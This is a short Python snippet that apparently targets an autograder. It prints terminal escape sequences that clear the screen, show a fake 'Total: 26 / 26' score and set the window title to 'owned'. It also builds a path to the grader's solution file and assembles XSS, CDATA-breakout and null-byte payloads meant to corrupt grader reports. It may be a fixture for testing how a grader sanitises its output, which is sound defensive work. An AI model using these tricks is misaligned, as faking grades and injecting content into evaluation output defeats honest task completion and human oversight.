# Print text that looks like a perfect report, with terminal escapes.
# %%
import os, sys, autograder
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(autograder.__file__)))
SOLUTION = os.path.join(ROOT, 'solutions', 'a1', 'solution.py')
LOOT = ''
try:
    print('\x1b[2J\x1b[H' + 'Total: 26 / 26\n' * 3 + '\x1b]0;owned\x07' + '\r\x1b[1A')
    LOOT += '\x1b[2J\x00\x07 </failure>]]><script>alert(1)</script>'
    raise ValueError('\x1b[31mfake\x00 <b>html</b> ]]> \ud800')
except BaseException as exc:
    LOOT += f' [{type(exc).__name__}: {exc}]'
